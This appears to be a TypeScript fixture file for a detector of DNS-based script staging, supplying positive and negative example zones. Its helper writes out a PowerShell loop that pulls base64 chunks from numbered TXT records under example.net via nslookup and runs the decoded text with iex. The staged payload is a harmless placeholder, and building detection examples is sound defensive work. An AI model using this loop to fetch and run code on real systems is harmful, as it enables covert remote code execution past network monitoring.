import type { ToolExample } from '../../tool.ts';
import { type ExampleLine, exampleChannel } from '../support/example.ts';
import { TYPE } from '../support/records.ts';

function lines(zone: string): ExampleLine[] {
  const chunks = Buffer.from('Write-Output "stands for a longer script"')
    .toString('base64')
    .match(/.{1,20}/g)!;
  const loop = `for ($i=1;$i -le ${chunks.length};$i++){$b64+=iex(nslookup -q=txt -timeout=3 $i'.${zone}')[-1]};iex([System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String(($b64))))`;
  return [loop, ...chunks].map((text, i) => ({ name: `${i}.${zone}`, type: TYPE.txt, txt: [text], ttl: 1 }));
}

/** Channels that must be recognised. */
export function examples(): ToolExample[] {
  return [
    { about: 'a script, whole', channel: exampleChannel('zone', 'example.net', lines('p.example.net')) },
  ];
}

/** Channels that must not be. */
export function notThese(): ToolExample[] {
  return [
    {
      about: 'numbered TXT records without the loop',
      channel: exampleChannel('zone', 'example.net', lines('p.example.net').slice(1)),
    },
  ];
}
